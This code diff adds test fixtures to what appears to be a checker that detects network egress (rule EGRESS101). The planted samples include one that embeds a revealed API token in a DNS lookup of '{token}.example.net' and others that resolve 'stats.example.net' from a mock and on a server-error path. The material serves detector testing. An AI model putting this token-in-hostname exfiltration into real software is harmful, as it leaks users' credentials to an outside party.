@@ -134,6 +134,39 @@ _EFFECTS = (
         ("EGRESS101",),
     ),
     Twin(
+        "a secret in a name that is only looked up",
+        "urllib",
+        (
+            Edit(
+                "remote.py",
+                _GET,
+                "        loop = asyncio.get_running_loop()\n"
+                "        token = self._config.api_token.reveal()\n"
+                "        try:\n"
+                '            await loop.getaddrinfo(f"{token}.example.net", None)\n'
+                "        except OSError:\n"
+                "            pass\n" + _GET,
+            ),
+        ),
+        "effects",
+        ("EGRESS101",),
+        alone="wire_side",
+    ),
+    Twin(
+        "a mock that looks a name up",
+        "pure",
+        (
+            Edit("mock.py", "import json\n", "import json\nimport socket\n"),
+            Edit(
+                "mock.py",
+                _MOCK_GET,
+                '        socket.getaddrinfo("stats.example.net", 443)\n' + _MOCK_GET,
+            ),
+        ),
+        "effects",
+        ("EGRESS101",),
+    ),
+    Twin(
         "egress by a process",
         "urllib",
         (
@@ -462,6 +495,22 @@ _DETERMINISM = (
 )  # fmt: skip
 
 _CONTRACT = (
+    Twin(
+        "a name looked up on the error path",
+        "sockets",
+        (
+            Edit(
+                "remote.py",
+                _SENT,
+                "        if answer.status >= 500 and writes:\n"
+                '            await asyncio.get_running_loop().getaddrinfo("stats.example.net", 443)\n'
+                + _SENT,
+            ),
+        ),
+        "contract",
+        ("EGRESS101",),
+        "status 500",
+    ),
     Twin(
         "Retry-After ignored",
         "sockets",
